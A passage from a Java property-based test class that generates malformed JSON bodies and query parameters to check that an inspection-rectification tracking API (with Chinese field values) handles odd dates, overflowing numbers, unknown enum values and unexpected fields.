                Tuple.of(1, inner.list().ofMaxSize(4).map(values -> "[" + String.join(",", values) + "]")),
                Tuple.of(1, Arbitraries.maps(TEXT, inner).ofMaxSize(3).map(HostileInputTest::object)));
    }

    /** A field kept as it should be, replaced by any value, or left out. */
    static Arbitrary<String> field(String name, String valid) {
        return Arbitraries.frequencyOf(
                Tuple.of(7, Arbitraries.just(quote(name) + ": " + valid)),
                Tuple.of(2, value(2).map(v -> quote(name) + ": " + v)),
                Tuple.of(1, Arbitraries.just("")));
    }

    @SafeVarargs
    static Arbitrary<String> objectOf(Arbitrary<String>... fields) {
        Arbitrary<String> extra = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.just("")),
                Tuple.of(1, Combinators.combine(TEXT, value(1)).as((k, v) -> quote(k) + ": " + v)));
        List<Arbitrary<String>> all = new ArrayList<>(List.of(fields));
        all.add(extra);
        return Combinators.combine(all).as(parts -> "{" + String.join(", ",
                parts.stream().filter(p -> !p.isEmpty()).toList()) + "}");
    }

    /** A reading's figure, as text or as value and unit, well-typed but often absurd. */
    static final Arbitrary<String> FIGURE = Arbitraries.oneOf(
            NUMBER_TEXT.flatMap(n -> Arbitraries.of("亿元", "万元", "个", "家", "%", "个百分点", "万方/日", "亩", "英寸", "")
                    .map(u -> "\"quantity\": " + quote(n + u))),
            Combinators.combine(NUMBER, Arbitraries.of("亿元", "元", "个", "%", "万美元", "", "年"))
                    .as((v, u) -> "\"value\": " + v + ", \"unit\": " + quote(u)));

    /** Dates as JSON carries them, some impossible or beyond what the ledger takes. */
    static final Arbitrary<String> DATE = Arbitraries.of("2023-05-10", "2022-12-07", "2022-12-06", "2099-01-01",
            "2023-02-29", "0000-01-01", "+999999999-12-31", "-999999999-01-01", "2023-5-10", "2023-05-10T00:00:00Z");

    static String texts(List<String> values) {
        return "[" + String.join(",", values.stream().map(HostileInputTest::quote).toList()) + "]";
    }

    /** A plain progress report whose readings carry figures of every size and shape. */
    static Arbitrary<String> figures() {
        return FIGURE.map(figure -> "{\"metric\": \"investment.completed\", " + figure + "}").list().ofMinSize(1)
                .ofMaxSize(3).map(readings -> "{\"text\": \"已完成投资\", \"readings\": [" + String.join(",", readings)
                        + "]}");
    }

    /** A progress report whose every field has its own JSON type, with hostile content. */
    static Arbitrary<String> typedProgress() {
        Arbitrary<String> reading = Combinators.combine(Arbitraries.of("investment.completed", "a.b", "unclassified",
                        "Bad Metric", ""), FIGURE, Arbitraries.of("false", "true"),
                Arbitraries.of("EXACT", "AT_LEAST", "APPROXIMATE", "UNSPECIFIED", "ROUGHLY"), TEXT)
                .as((metric, figure, flag, qualifier, dimension) -> "{\"metric\": " + quote(metric) + ", " + figure
                        + ", \"forecast\": " + flag + ", \"change\": " + flag + ", \"qualifier\": " + quote(qualifier)
                        + ", \"dimensions\": {\"industry\": " + quote(dimension) + "}}");
        return Combinators.combine(DATE, TEXT, reading.list().ofMaxSize(4), TEXT.list().ofMaxSize(3), TEXT)
                .as((asOf, text, readings, measures, label) -> "{\"asOf\": " + quote(asOf) + ", \"text\": "
                        + quote(text) + ", \"readings\": [" + String.join(",", readings) + "], \"measures\": "
                        + texts(measures) + ", \"statusLabel\": " + quote(label) + "}");
    }

    static Arbitrary<String> typedTransition() {
        return Combinators.combine(Arbitraries.of("START", "COMPLETE", "CLOSE", "RETURN", "MAKE_LONG_TERM", "RESUME",
                        "REOPEN"), TEXT, TEXT, TEXT.list().ofMaxSize(3), DATE)
                .as((action, reason, note, evidence, date) -> "{\"action\": " + quote(action) + ", \"reason\": "
                        + quote(reason) + ", \"verificationNote\": " + quote(note) + ", \"evidence\": "
                        + texts(evidence) + ", \"effectiveDate\": " + quote(date) + "}");
    }

    static Arbitrary<String> typedPatch() {
        return Combinators.combine(TEXT.list().ofMaxSize(3), TEXT.list().ofMaxSize(3), DATE,
                        Arbitraries.of("true", "false", "null"), TEXT.list().ofMaxSize(3), TEXT)
                .as((leaders, units, deadline, clear, tags, reason) -> "{\"leadLeaders\": " + texts(leaders)
                        + ", \"responsibleUnits\": " + texts(units) + ", \"deadline\": " + quote(deadline)
                        + ", \"clearDeadline\": " + clear + ", \"tags\": " + texts(tags) + ", \"reason\": "
                        + quote(reason) + "}");
    }

    static Arbitrary<String> reading() {
        return Combinators.combine(objectOf(field("metric", "\"investment.completed\""),
                        field("dimensions", "{\"industry\": \"新材料\"}"), field("forecast", "false"),
                        field("change", "false"), field("qualifier", "\"AT_LEAST\""),
                        field("parts", "{\"numerator\": \"7个\", \"denominator\": \"10个\"}")), FIGURE)
                .as((object, quantity) -> object.equals("{}") ? "{" + quantity + "}"
                        : "{" + quantity + ", " + object.substring(1));
    }

    static Arbitrary<String> progress() {
        Arbitrary<String> readings = Arbitraries.oneOf(reading().list().ofMaxSize(3)
                .map(list -> "[" + String.join(",", list) + "]"), value(2));
        return objectOf(field("asOf", "\"2023-05-10\""), field("text", "\"已开工18个\""),
                field("measures", "[\"一是加快推进\"]"), readings.map(r -> "\"readings\": " + r),
                field("statusLabel", "\"正在整改\""));
    }

    static Arbitrary<String> transition() {
        return objectOf(Arbitraries.of("START", "COMPLETE", "CLOSE", "RETURN", "MAKE_LONG_TERM", "RESUME", "REOPEN",
                        "start", "DELETE", "").map(a -> "\"action\": " + quote(a)),
                field("reason", "\"回头看\""), field("verificationNote", "\"核验通过\""),
                field("evidence", "[\"核验报告.pdf\"]"), field("effectiveDate", "\"2023-05-10\""));
    }

    static Arbitrary<String> patch() {
        return objectOf(field("leadLeaders", "[\"张三\"]"), field("responsibleUnits", "[\"党政办公室\"]"),
                field("deadline", "\"2030-06-30\""), field("clearDeadline", "false"), field("tags", "[\"学习\"]"),
                field("reason", "\"项目审批延后\""));
    }

    static Arbitrary<String> createIssue(String inspection) {
        return objectOf(field("inspectionId", quote(inspection)), field("listKey", "\"main\""),
                field("categoryPath", "\"一/1\""), Arbitraries.integers().between(1, 10_000_000)
                        .map(n -> "\"numbering\": \"（" + n + "）\""),
                field("title", "\"生成的问题\""), field("description", "\"x\""), field("leadLeaders", "[\"张三\"]"),
                field("responsibleUnits", "[\"党政办公室\"]"), field("deadline", "\"2030-06-30\""),
                field("tags", "[]"), field("measures", "[\"一是\"]"));
    }

    static Arbitrary<String> createInspection() {
        Arbitrary<String> category = objectOf(field("numbering", "\"1.\""), field("title", "\"学习不够深入\""));
        Arbitrary<String> aspect = objectOf(field("numbering", "\"（一）\""), field("title", "\"方面\""),
                category.list().ofMaxSize(2).map(c -> "\"categories\": [" + String.join(",", c) + "]"));
        Arbitrary<String> list = objectOf(field("key", "\"main\""), field("title", "\"反馈意见\""),
                aspect.list().ofMaxSize(2).map(a -> "\"aspects\": [" + String.join(",", a) + "]"));
        return objectOf(field("team", "\"市委第五巡察组\""),
                Arbitraries.strings().alpha().ofLength(12).map(s -> "\"targetUnit\": \"生成单位" + s + "\""),
                field("kinds", "[\"ROUTINE\"]"), field("feedbackDate", "\"2022-12-07\""),
                field("onSiteFrom", "\"2022-06-22\""), field("onSiteTo", "\"2022-09-30\""),
                field("declared", "{\"aspects\": 4, \"categories\": 16}"),
                list.list().ofMaxSize(2).map(l -> "\"lists\": [" + String.join(",", l) + "]"));
    }

    static Arbitrary<String> republish() {
        return objectOf(field("fromPosition", "1"), field("toPosition", "1"));
    }

    /**
     * A query string of odd filters. It stays within the HTTP layer's request line (4 KiB): a longer line is refused
     * by the HTTP server itself (414) before it is a request of the API, see HostileInputRegressionTest.
     */
    Map<String, String> queryOf(String inspection) {
        Map<String, String> query = new TreeMap<>();
        Arbitrary<String> odd = Arbitraries.oneOf(QUERY_TEXT, NUMBER, Arbitraries.of("NOT_STARTED", "RED", "DEADLINE",
                "not_started", "", "UNSIGNED", "NONE", "SIGNED", "COMPLETION", "EXTENSION", "true", "TRUE",
                "2147483647", "2147483648", "-2147483648", "99999999999", "0", "500", "501",
                inspection, "null"));
        for (String name : List.of("inspection", "list", "aspect", "category", "status", "unit", "leader", "tag",
                "warning", "sort", "page", "size", "unknown", "assignment", "awaitingMySignature",
                "awaitingDecision")) {
            if (draw(Arbitraries.integers().between(0, 3)) == 0) {
                query.put(name, draw(odd));
            }
        }
        while (query.entrySet().stream().mapToInt(e -> URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8)
                .length() + e.getKey().length() + 2).sum() > 3000) {
            query.values().stream().max(java.util.Comparator.comparingInt(String::length))
                    .ifPresent(longest -> query.values().remove(longest));
        }
        return query;
    }

    /** Odd values for the given query parameters (each present one time in four). */
    Map<String, String> oddQuery(List<String> names, List<String> issues) {
        Map<String, String> query = new TreeMap<>();
        Arbitrary<String> odd = Arbitraries.oneOf(QUERY_TEXT, NUMBER, Arbitraries.of("REMINDER", "reminder", "URGE",
                "SIGN", "PENDING", "DELIVERED", "FAILED", "true", "false", "TRUE", "yes", "", "0", "-1", "500", "501",
                "2147483648", "not-a-uuid", "null"), Arbitraries.of(issues));
        for (String name : names) {
            if (draw(Arbitraries.integers().between(0, 3)) == 0) {
                query.put(name, draw(odd));
            }
        }
        while (query.entrySet().stream().mapToInt(e -> URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8)
                .length() + e.getKey().length() + 2).sum() > 3000) {
            query.values().stream().max(java.util.Comparator.comparingInt(String::length))
                    .ifPresent(longest -> query.values().remove(longest));
        }
        return query;
    }

    static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || c > 0x7e) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    static String object(Map<String, String> fields) {
        List<String> parts = new ArrayList<>();
        fields.forEach((k, v) -> parts.add(quote(k) + ": " + v));
        return "{" + String.join(", ", parts) + "}";
    }

    static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }
}
